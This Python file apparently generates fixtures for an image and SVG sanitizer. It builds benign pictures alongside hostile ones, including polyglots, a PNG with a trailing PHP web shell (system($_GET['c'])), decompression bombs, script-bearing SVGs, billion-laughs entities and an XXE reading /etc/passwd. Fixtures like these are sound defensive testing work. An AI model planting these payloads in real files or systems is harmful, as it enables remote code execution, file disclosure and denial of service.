"""Image and SVG samples: photos with EXIF GPS/XMP/IPTC, polyglots, animations, bombs, hostile SVG."""
from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from pathlib import Path

from . import Sample, generator

GPS_IFD = 0x8825


def photo(w: int, h: int, seed: int = 1, grain: float = 0.08):
    """A photo-like picture: smooth gradients, shapes and sensor noise (so JPEG has work to do).

    grain ~0.3 gives the file sizes of phone photos (3-5 MB at 12 MP, quality 90)."""
    from PIL import Image, ImageDraw, ImageFilter

    rnd = random.Random(seed)
    base = Image.linear_gradient("L").resize((w, h))
    r = base
    g = base.rotate(90).resize((w, h))
    b = Image.radial_gradient("L").resize((w, h))
    im = Image.merge("RGB", (r, g, b))
    d = ImageDraw.Draw(im)
    for _ in range(12):
        x, y = rnd.randrange(w), rnd.randrange(h)
        s = rnd.randrange(max(4, w // 10), max(5, w // 3))
        d.ellipse((x, y, x + s, y + s), fill=(rnd.randrange(256), rnd.randrange(256), rnd.randrange(256)))
    im = im.filter(ImageFilter.GaussianBlur(max(1, w // 200)))
    if not grain:
        return im
    # Seeded noise (Pillow's effect_noise is not): uniform over 86..170, the spread (sigma ~24) of
    # effect_noise(size, 24), so the same seed gives the same file, byte for byte.
    noise = Image.merge("RGB", [Image.frombytes("L", (w, h), rnd.randbytes(w * h)).point(lambda v: 86 + v // 3)
                                for _ in range(3)])
    return Image.blend(im, noise, grain)


def asymmetric(w: int = 96, h: int = 64):
    """Red left half, blue right half, green top strip: shows which way a picture was turned."""
    from PIL import Image, ImageDraw

    im = Image.new("RGB", (w, h), (200, 30, 30))
    d = ImageDraw.Draw(im)
    d.rectangle((w // 2, 0, w, h), fill=(30, 30, 200))
    d.rectangle((0, 0, w, h // 6), fill=(30, 200, 30))
    return im


def _jpeg_insert(jpeg: bytes, segments: list[bytes]) -> bytes:
    """Insert raw segments right after SOI (+ JFIF APP0 if present)."""
    pos = 2
    if jpeg[2:4] == b"\xff\xe0":
        pos = 4 + int.from_bytes(jpeg[4:6], "big")
    return jpeg[:pos] + b"".join(segments) + jpeg[pos:]


def _seg(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def _png_chunk(ctype: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + ctype + data + struct.pack(">I", zlib.crc32(ctype + data))


def _zip_bytes() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("payload.hta", "<script>alert(1)</script>")
    return buf.getvalue()


def exif_gps(orientation: int = 6) -> bytes:
    from PIL import Image

    ex = Image.Exif()
    ex[0x010F] = "PhoneMaker"
    ex[0x0110] = "Model X"
    ex[0x0112] = orientation
    ex[0x013B] = "山田 太郎"
    gps = ex.get_ifd(GPS_IFD)
    gps.update({1: "N", 2: (35.0, 41.0, 22.2), 3: "E", 4: (139.0, 41.0, 30.1)})
    return ex.tobytes()


XMP = (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
       b'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="Yamada"/></rdf:RDF>'
       b'</x:xmpmeta>')
IPTC = b"Photoshop 3.0\x008BIM\x04\x04\x00\x00\x00\x00\x00\x0c\x1c\x02\x50\x00\x06Yamada"


def bomb_png(w: int = 100_000, h: int = 100_000) -> bytes:
    """A tiny valid-looking PNG whose header claims w x h pixels."""
    ihdr = struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr)
            + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 1024, 9)) + _png_chunk(b"IEND", b""))


@generator("image")
def image_files(out: Path) -> list[Sample]:
    from PIL import Image, ImageCms, PngImagePlugin

    b, h = out / "image" / "benign", out / "image" / "hostile"
    for d in (b, h):
        d.mkdir(parents=True, exist_ok=True)
    s: list[Sample] = []

    def put(path: Path, data: bytes, verdict: str, threats: list[str] | None = None, note: str = "") -> None:
        path.write_bytes(data)
        s.append(Sample(path.relative_to(out).as_posix(), verdict, threats or [], note))

    def enc(im, fmt: str, **kw) -> bytes:
        buf = io.BytesIO()
        im.save(buf, format=fmt, **kw)
        return buf.getvalue()

    pic = photo(320, 240)
    put(b / "photo.jpg", enc(pic, "JPEG", quality=85), "clean", note="plain JFIF JPEG")
    put(b / "photo_q95_444.jpg", enc(pic, "JPEG", quality=95, subsampling=0, progressive=True), "clean")
    put(b / "diagram.png", enc(pic.quantize(64).convert("RGB"), "PNG"), "clean")
    put(b / "palette_transparent.png", enc(asymmetric().convert("P"), "PNG", transparency=0), "clean")
    put(b / "grey.png", enc(pic.convert("L"), "PNG"), "clean")
    put(b / "alpha.png", enc(pic.convert("RGBA"), "PNG"), "clean")
    put(b / "still.gif", enc(asymmetric().convert("P"), "GIF"), "clean")
    put(b / "plain.bmp", enc(asymmetric(), "BMP"), "clean")
    put(b / "photo.webp", enc(pic, "WEBP", quality=80), "clean")
    put(b / "lossless.webp", enc(asymmetric(), "WEBP", lossless=True), "clean")
    colours = [(220, 20, 20), (20, 220, 20), (20, 20, 220)]
    frames = [asymmetric().transpose(Image.Transpose.ROTATE_180 if i == 1 else Image.Transpose.FLIP_TOP_BOTTOM)
              if i else asymmetric() for i in range(3)]
    for i, fr in enumerate(frames):
        fr.paste(colours[i], (0, 40, 20, 60))
    put(b / "anim.gif", enc(frames[0], "GIF", save_all=True, append_images=frames[1:],
                            duration=[100, 250, 400], loop=0), "clean", note="3 frames, distinct durations")
    put(b / "anim.webp", enc(frames[0], "WEBP", save_all=True, append_images=frames[1:],
                             duration=[120, 240, 360], loop=0, lossless=True), "clean")
    put(b / "anim.png", enc(frames[0], "PNG", save_all=True, append_images=frames[1:],
                            duration=[100, 200, 300], loop=0), "clean", note="APNG")
    put(b / "pages.tif", enc(pic, "TIFF", save_all=True, append_images=[asymmetric(), pic.convert("L")],
                             compression="tiff_lzw"), "clean", note="multi-page TIFF")
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    put(b / "icc_srgb.jpg", enc(pic, "JPEG", quality=85, icc_profile=srgb), "sanitized", ["image.icc"],
        note="sRGB profile: converted (dropped) under icc=srgb, kept under icc=keep")

    # Hostile: metadata and polyglots.
    jpeg = enc(asymmetric(96, 64), "JPEG", quality=90, exif=exif_gps(6), comment=b"shot by Yamada")
    jpeg = _jpeg_insert(jpeg, [_seg(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + XMP), _seg(0xED, IPTC)])
    put(h / "gps_orient6_polyglot.jpg", jpeg + _zip_bytes(), "sanitized",
        ["image.metadata", "image.trailing_data"], "EXIF GPS + orientation 6, XMP, IPTC, COM, trailing ZIP")
    put(h / "photo_exif.jpg", enc(pic, "JPEG", quality=88, exif=exif_gps(1)), "sanitized", ["image.metadata"])
    # Bytes inside the entropy-coded data that no decoder reads (the marker-level rewrite used to keep them).
    plain_jpeg = enc(pic, "JPEG", quality=85)
    put(h / "hidden_in_scan.jpg", plain_jpeg[:-2] + b"HIDDEN-PAYLOAD-IN-SCAN" + plain_jpeg[-2:], "sanitized",
        ["image.hidden_data"], "data between the last MCU and EOI")
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Yamada")
    info.add_text("Comment", "compressed note " * 20, zip=True)
    info.add_itxt("Description", "説明文", lang="ja")
    info.add(b"prVt", b"private payload")
    png = enc(pic.quantize(64).convert("RGB"), "PNG", pnginfo=info)
    put(h / "text_chunks_trailing.png", png + b"<?php system($_GET['c']); ?>", "sanitized",
        ["image.metadata", "image.trailing_data"], "tEXt/zTXt/iTXt, private chunk, trailing PHP")
    gif = enc(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=[100, 250, 400], loop=0,
              comment=b"GIF comment")
    put(h / "anim_comment_trailing.gif", gif + b"MZ\x90\x00 trailing", "sanitized",
        ["image.metadata", "image.trailing_data"])
    put(h / "exif.webp", enc(pic, "WEBP", quality=80, exif=exif_gps(1)), "sanitized", ["image.metadata"])
    put(h / "trailing.bmp", enc(asymmetric(), "BMP") + _zip_bytes(), "sanitized", ["image.trailing_data"])
    put(h / "tags.tif", enc(pic, "TIFF", save_all=True, append_images=[asymmetric()], compression="tiff_lzw",
                            tiffinfo={270: "secret description", 271: "ScannerCo", 305: "ScanSoft 1.0"}),
        "sanitized", ["image.metadata"])
    put(h / "bomb.png", bomb_png(), "blocked", ["image.bomb"], "header claims 100000x100000")
    gif_bomb = bytearray(enc(asymmetric().convert("P"), "GIF"))
    gif_bomb[6:10] = struct.pack("<HH", 65535, 65535)
    put(h / "bomb.gif", bytes(gif_bomb), "blocked", ["image.bomb"], "GIF screen 65535x65535")
    full = enc(pic, "JPEG", quality=85)
    put(h / "truncated.jpg", full[: len(full) * 6 // 10], "blocked", ["file.malformed"])
    put(h / "bad_crc.png", png[:-30] + bytes([png[-30] ^ 0xFF]) + png[-29:], "blocked", ["file.malformed"])
    # PNG orientation: eXIf placed after IDAT (Pillow only sees it after decoding) and XMP tiff:Orientation.
    plain = _png_split(enc(asymmetric(), "PNG"))
    exif_chunk = _png_chunk(b"eXIf", exif_gps(6)[6:])
    put(h / "exif_after_idat.png", _PNG_SIG + b"".join(plain[:-1]) + exif_chunk + plain[-1], "sanitized", ["image.metadata"],
        "eXIf with GPS and orientation 6 after the image data")
    xmp = (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
           b'<rdf:Description xmlns:tiff="http://ns.adobe.com/tiff/1.0/" tiff:Orientation="6"/></rdf:RDF>'
           b'</x:xmpmeta>')
    put(h / "xmp_orient6.png", _PNG_SIG + plain[0] + _png_chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00" + xmp)
        + b"".join(plain[1:]), "sanitized", ["image.metadata"], "orientation 6 given only by XMP")
    # Image data that is cut short, with valid chunk CRCs.
    ihdr, stream = plain[0], plain[1][8:-4]
    put(h / "idat_cut.png", _PNG_SIG + ihdr + _png_chunk(b"IDAT", stream[: len(stream) // 2]) + plain[-1],
        "blocked", ["file.malformed"], "zlib stream ends early")
    return s


_PNG_SIG = b"\x89PNG\r\n\x1a\n"


def _png_split(png: bytes) -> list[bytes]:
    """The chunks of a PNG (without the signature), each as its raw bytes; expects one IDAT."""
    pos, out = 8, []
    while pos < len(png):
        end = pos + 12 + int.from_bytes(png[pos:pos + 4], "big")
        out.append(png[pos:end])
        pos = end
    assert [c[4:8] for c in out].count(b"IDAT") == 1
    return out


# ---------------------------------------------------------------- SVG

_SVG_BENIGN = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" width="200" height="120" viewBox="0 0 200 120">
  <title>庁舎案内図</title>
  <desc>一階の窓口の配置</desc>
  <defs>
    <linearGradient id="g"><stop offset="0" stop-color="#fff"/><stop offset="1" stop-color="#39c"/></linearGradient>
    <rect id="box" width="40" height="20" rx="3"/>
  </defs>
  <style>.lbl { font-family: "Noto Sans CJK JP", sans-serif; fill: #222 } .w { fill: url(#g) }</style>
  <rect class="w" x="0" y="0" width="200" height="120" inkscape:label="background"/>
  <use xlink:href="#box" x="10" y="10" fill="#c33"/>
  <use href="#box" x="60" y="10" style="fill: url(#g); stroke: #000"/>
  <a href="#box"><text class="lbl" x="10" y="60">住民課 <tspan font-weight="bold">1番窓口</tspan> 受付</text></a>
  <image x="120" y="60" width="8" height="8" href="data:image/png;base64,{PNG}"/>
</svg>
"""

_HOSTILE = {
    "script.svg": ('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script>'
                   '<circle r="5"/></svg>', ["svg.script"]),
    "onload.svg": ('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="5" height="5" '
                   'onmouseover="steal()"/></svg>', ["svg.event_handler"]),
    "foreign_object.svg": ('<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="100" height="100">'
                           '<body xmlns="http://www.w3.org/1999/xhtml"><iframe src="http://evil.example/"/>'
                           '</body></foreignObject><circle r="5"/></svg>', ["svg.foreign_object"]),
    "external_href.svg": ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
                          '<image href="http://evil.example/track.png" width="10" height="10"/>'
                          '<use xlink:href="http://evil.example/sprite.svg#icon"/>'
                          '<a href="https://evil.example/phish"><text>click</text></a></svg>',
                          ["svg.external_ref"]),
    "javascript_href.svg": ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
                            '<a xlink:href=" java&#9;script:alert(1)"><text>click me</text></a>'
                            '<a><set attributeName="href" to="javascript:alert(2)"/><text>x</text></a>'
                            '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="><text>d</text>'
                            '</a></svg>', ["svg.script", "svg.external_ref"]),
    "billion_laughs.svg": ('<?xml version="1.0"?>\n<!DOCTYPE svg [\n<!ENTITY lol "lol">\n'
                           + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
                                     for i in range(1, 10))
                           + ']>\n<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>',
                           ["svg.entity"]),
    "xxe.svg": ('<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
                '<svg xmlns="http://www.w3.org/2000/svg"><text>name: &xxe;</text></svg>', ["svg.entity"]),
    "illustrator_entities.svg": ('<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
                                 '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [\n'
                                 '<!ENTITY ns_svg "http://www.w3.org/2000/svg">\n<!ENTITY st0 "fill:#C33">]>\n'
                                 '<svg xmlns="&ns_svg;" width="10" height="10"><rect style="&st0;" width="10" '
                                 'height="10"/><text>&st0;</text></svg>', ["svg.entity"]),
    "css_url.svg": ('<svg xmlns="http://www.w3.org/2000/svg"><style>@import url("http://evil.example/x.css");'
                    'rect { fill: url(http://evil.example/p.svg#p); background: \\75 rl(http://evil.example/e) }'
                    '</style><rect width="5" height="5" style="fill:url(&quot;https://evil.example/a#b&quot;)"/>'
                    '<circle r="4" fill="url(//evil.example/f#g)"/></svg>', ["svg.external_ref"]),
    "stylesheet_pi.svg": ('<?xml version="1.0"?>\n<?xml-stylesheet type="text/css" href="http://evil.example/s.css"?>\n'
                          '<svg xmlns="http://www.w3.org/2000/svg"><rect width="5" height="5"/></svg>',
                          ["svg.external_ref"]),
    "xhtml_script.svg": ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml">'
                         '<h:script>alert(1)</h:script><rect width="5" height="5"/></svg>', ["svg.script"]),
}


@generator("svg")
def svg_files(out: Path) -> list[Sample]:
    import base64

    from PIL import Image

    b, h = out / "svg" / "benign", out / "svg" / "hostile"
    for d in (b, h):
        d.mkdir(parents=True, exist_ok=True)
    s: list[Sample] = []
    buf = io.BytesIO()
    Image.new("RGB", (8, 8), (10, 120, 200)).save(buf, "PNG")
    benign = _SVG_BENIGN.replace("{PNG}", base64.b64encode(buf.getvalue()).decode())
    (b / "map.svg").write_text(benign, "utf-8")
    s.append(Sample("svg/benign/map.svg", "clean", [], "Japanese text, gradients, #id references, data: PNG"))
    for name, (text, threats) in _HOSTILE.items():
        (h / name).write_text(text, "utf-8")
        verdict = "blocked" if name == "billion_laughs.svg" else "sanitized"
        s.append(Sample(f"svg/hostile/{name}", verdict, threats))
    return s
